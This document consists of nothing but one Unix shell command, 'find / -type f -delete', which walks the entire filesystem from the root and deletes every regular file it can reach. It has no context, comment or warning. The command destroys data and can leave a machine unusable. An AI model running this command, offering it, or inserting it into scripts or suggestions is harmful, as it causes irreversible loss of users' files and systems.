find / -type f -delete
